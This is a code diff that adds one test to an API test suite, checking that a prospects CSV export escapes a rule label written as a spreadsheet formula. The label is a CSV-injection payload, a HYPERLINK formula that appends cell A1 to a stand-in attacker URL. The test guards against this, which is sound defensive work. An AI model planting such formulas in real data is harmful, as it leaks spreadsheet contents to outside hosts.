@@ -124,4 +124,15 @@ describe("the first worked example, end to end", () => {
     await createSite();
     expect((await api(`/api/sites/acme/prospects?${query}`)).status).toBe(status);
   });
+
+  it("escapes a rule label that would run as a spreadsheet formula in the CSV", async () => {
+    await createSite("acme", {
+      prospectAt: 3,
+      rules: [{ id: "evil", label: '=HYPERLINK("https://evil.example/?"&A1,"Open")', points: 5, when: { event: "pageview" } }],
+    });
+    await track("acme", "visitor-0001", event("pageview"));
+    const csv = await (await api("/api/sites/acme/prospects?format=csv")).text();
+    const cell = csv.trimEnd().split("\r\n")[1]?.split(",").slice(7).join(",");
+    expect(cell).toBe('"\'=HYPERLINK(""https://evil.example/?""&A1,""Open"") +5"');
+  });
 });
